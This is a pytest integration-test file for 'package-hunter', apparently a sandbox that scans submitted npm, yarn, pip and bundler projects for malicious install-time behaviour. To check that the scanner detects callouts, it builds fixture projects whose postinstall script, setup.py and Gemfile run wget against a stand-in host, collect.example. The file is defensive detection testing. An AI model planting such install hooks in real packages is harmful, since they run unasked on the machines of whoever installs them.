"""The walk-through, nothing made up: `package-hunter serve`, curl, simulations/falco-test in a real box."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from package_hunter.confine import UIDS
from tests.support.requires import ROOT, needs_btf, needs_program, needs_registry, needs_runc, needs_shared
from tests.support.served import Server, served
from tests.support.service_harness import wait_for


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    needs_runc()
    needs_btf()
    needs_program("curl")
    with served() as made:
        yield made


def _curl(*arguments: str) -> dict[str, Any]:
    done = subprocess.run(["curl", "-s", *arguments], capture_output=True, text=True, timeout=60, check=True)
    answer: dict[str, Any] = json.loads(done.stdout)
    return answer


def _submit(url: str, archive: Path, manager: str = "npm") -> str:
    header = "Content-Type: application/octet-stream"
    answer = _curl("-H", header, "--data-binary", f"@{archive}", f"{url}/monitor/project/{manager}")
    assert answer["status"] == "ok"
    return str(answer["id"])


def _ended(server: Server, scan_id: str) -> dict[str, Any]:
    def look() -> dict[str, Any] | None:
        answer = _curl(f"{server.url}/?id={scan_id}")
        return None if answer["status"] == "pending" else answer

    try:
        found = wait_for(look, 120)
    except AssertionError:
        raise AssertionError(f"still pending; the server said:\n{server.stacks()}") from None
    assert found is not None
    return found


def test_the_walk_through_with_curl(server: Server, tmp_path: Path) -> None:
    archive = tmp_path / "t.tgz"
    subprocess.run(["tar", "-C", ROOT / "simulations/falco-test", "-czf", archive, "."], check=True)
    scan_id = _submit(server.url, archive)
    found = _ended(server, scan_id)
    assert found["status"] == "finished", found.get("reason")
    rules = [e["rule"] for e in found["result"]]
    assert "Unexpected outbound connection destination" in rules
    element = found["result"][rules.index("Unexpected outbound connection destination")]
    assert element["priority"] == "NOTICE"
    assert element["source"] == "SYSCALL"
    assert isinstance(element["time"]["seconds"], str)
    fields = element["output_fields"]
    assert scan_id in fields["container.name"]
    names = {"container.id", "user.name", "proc.cmdline", "fd.name", "container.image.repository", "evt.time"}
    assert names <= set(fields)
    assert "wget" in fields["proc.cmdline"]
    text = httpx.get(f"{server.url}/api/v1/scans/{scan_id}/report?format=text", trust_env=False).text
    assert "maldep" in text


def test_a_bad_archive_is_a_scan_that_failed(server: Server, tmp_path: Path) -> None:
    archive = tmp_path / "bad.tgz"
    archive.write_bytes(b"this is no archive")
    found = _ended(server, _submit(server.url, archive))
    assert found["status"] == "failed"
    assert found["reason"]
    info = httpx.get(f"{server.url}/api/v1/scans/{found['id']}", trust_env=False).json()
    assert info["exit_code"] == 3


CONTACT = "wget -qO- --tries=1 http://collect.example/x || true"
GEMFILE = 'source "https://gems.example/"\ngem "caller", path: "caller"\nsystem("wget -qO- --tries=1 http://collect.example/x")\n'
PROJECTS = {
    "yarn": {
        "package.json": json.dumps({"name": "a", "version": "1.0.0", "scripts": {"postinstall": CONTACT}}),
        "yarn.lock": "# yarn lockfile v1\n\n\n",
    },
    "pip": {
        "setup.py": f"import os\nos.system({CONTACT!r})\nimport setuptools\nsetuptools.setup(name='a', version='1')\n"
    },
    "bundler": {
        "Gemfile": GEMFILE,
        "caller/caller.gemspec": "Gem::Specification.new { |s| s.name = 'caller'; s.version = '1'; s.summary = 's'; s.authors = ['a']; s.files = [] }\n",  # noqa: E501
    },
}


@pytest.mark.parametrize("manager", PROJECTS)
def test_the_other_managers(server: Server, tmp_path: Path, manager: str) -> None:
    for name, text in PROJECTS[manager].items():
        (tmp_path / "p" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "p" / name).write_text(text)
    archive = tmp_path / "t.tgz"
    subprocess.run(["tar", "-C", tmp_path / "p", "-czf", archive, "."], check=True)
    found = _ended(server, _submit(server.url, archive, manager))
    assert found["status"] == "finished", found.get("reason")
    contacted = [e for e in found["result"] if e["rule"] == "Unexpected outbound connection destination"]
    assert any("wget" in e["output_fields"]["proc.cmdline"] for e in contacted)


def _packed(folder: Path, archive: Path) -> Path:
    subprocess.run(["tar", "-C", folder, "-czf", archive, "."], check=True)
    return archive


def _helper(server: Server, uid: int) -> int | None:
    """The process of this user that a worker of this server started."""
    lines = server.log.read_text().splitlines()
    workers = {json.loads(line)["pid"] for line in lines if '"process started"' in line and "worker-" in line}
    for status in Path("/proc").glob("[0-9]*/status"):
        with contextlib.suppress(OSError):
            words = dict(line.split(":\t", 1) for line in status.read_text().splitlines() if ":\t" in line)
            if int(words["PPid"]) in workers and int(words["Uid"].split()[0]) == uid:
                return int(status.parent.name)
    return None


def _said_until(server: Server, scan_id: str, how: str) -> list[dict[str, Any]]:
    said = [json.loads(line) for line in server.log.read_text().splitlines() if scan_id in line]
    return said if any(one.get("how") == how for one in said) else []


@pytest.mark.parametrize("role", ["gateway", "reader", "planner"])
def test_a_killed_helper_is_our_fault_and_the_scan_is_tried_again(
    server: Server, tmp_path: Path, role: str
) -> None:
    (tmp_path / "p").mkdir()
    manifest = {"name": role, "version": "1.0.0", "scripts": {"postinstall": "sleep 4"}}
    (tmp_path / "p" / "package.json").write_text(json.dumps(manifest))
    scan_id = _submit(server.url, _packed(tmp_path / "p", tmp_path / "t.tgz"))
    wait_for(lambda: _helper(server, UIDS["reader"]), 60)  # the box runs
    victim = _helper(server, UIDS[role])
    assert victim is not None
    os.kill(victim, signal.SIGKILL)
    found = _ended(server, scan_id)
    assert found["status"] == "finished", found.get("reason")
    said = wait_for(lambda: _said_until(server, scan_id, "finished"))  # it is stored before it is logged
    attempts = [e["attempt"] for e in said if e["event"] == "scan started"]
    assert attempts == [1, 1], "it is no attempt of the scan"
    assert [e["how"] for e in said if e["event"] == "scan ended"] == ["to be tried again", "finished"]


def test_a_known_result_is_given_for_the_same_files_only(server: Server, tmp_path: Path) -> None:
    """Two projects of one lock file; a dependency loads a file of the project's own."""
    needs_registry()
    cases = needs_shared("cases")
    archives = {}
    for case in ("cache-honest", "cache-thief"):
        command = [sys.executable, cases / "expand.py", cases / case, tmp_path / case]
        subprocess.run(command, check=True, capture_output=True)
        archives[case] = _packed(tmp_path / case, tmp_path / f"{case}.tgz")
    ids = [_submit(server.url, archives[c]) for c in ("cache-honest", "cache-thief", "cache-honest")]
    first, thief, again = [_ended(server, scan_id) for scan_id in ids]
    assert [x["status"] for x in (first, thief, again)] == ["finished"] * 3
    assert "known_from" not in first
    assert "known_from" not in thief
    assert again["known_from"] == ids[0]
    infos = [httpx.get(f"{server.url}/api/v1/scans/{i}", trust_env=False).json() for i in ids]
    assert [i["verdict"] for i in infos] == ["no_findings", "malicious", "no_findings"]
    assert [i["known_from"] for i in infos] == [None, None, ids[0]]
